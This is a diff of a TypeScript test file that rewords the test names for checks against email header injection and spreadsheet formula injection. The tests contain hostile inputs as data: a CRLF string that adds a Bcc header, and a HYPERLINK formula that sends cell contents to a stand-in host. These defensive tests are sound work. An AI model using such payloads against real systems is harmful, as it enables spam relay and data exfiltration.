@@ -5,7 +5,7 @@ import { overNetwork } from '../testing/network-site.ts';
 import { jobBody, makeOld } from '../testing/test-bodies.ts';
 import { addressBelow, noon, type TestSite, testSite } from '../testing/test-site.ts';
 
-/* Words of people in what other programs read: headers of mails, and cells of spreadsheets. */
+/* User input in what other programs parse: email headers and spreadsheet cells. */
 
 let site: TestSite;
 beforeAll(async () => {
@@ -22,7 +22,7 @@ const post = (path: string, body: unknown) =>
 
 const attack = 'Huda\r\nBcc: all@post.example\r\n\r\nBuy now';
 
-it('no name of an account begins another header of a mail', async () => {
+it('the name of an account cannot inject an email header', async () => {
   const password = 'swordfish-and-olives';
   const fields = {
     email: 'huda@post.example',
@@ -37,7 +37,7 @@ it('no name of an account begins another header of a mail', async () => {
   expect([mail.bcc, mail.cc, mail.to?.length]).toEqual([undefined, undefined, 1]);
 });
 
-it('neither does the title of a post, nor what an admin is told of one', async () => {
+it('nor can the title of a post, nor a notification to admins about one', async () => {
   const [poster, judge] = [await site.member({ name: attack }), await site.member({ role: 'moderator' })];
   await makeOld(site, poster);
   const made = await poster.ask('POST', 'jobs', { ...jobBody(site), title: attack });
@@ -59,13 +59,13 @@ it.each([
   'huda@post.example, all@post.example',
   'Huda <huda@post.example>',
   '"a@b"@post.example',
-])('a mail goes to no address like %j', async (email) => {
+])('no email is sent to an address like %j', async (email) => {
   for (const path of ['subscribes', 'forgot-password', 'contact'])
     expect([path, (await post(path, { name: 'Huda', email, message: 'Hello' })).status]).toEqual([path, 422]);
   expect(await site.otherMails()).toEqual([]);
 });
 
-it('no cell of a file for spreadsheets is a formula', async () => {
+it('no cell of a spreadsheet file is a formula', async () => {
   const admin = await site.member({ role: 'admin' });
   const formulas = [
     '=HYPERLINK("https://evil.example?"&A1)',
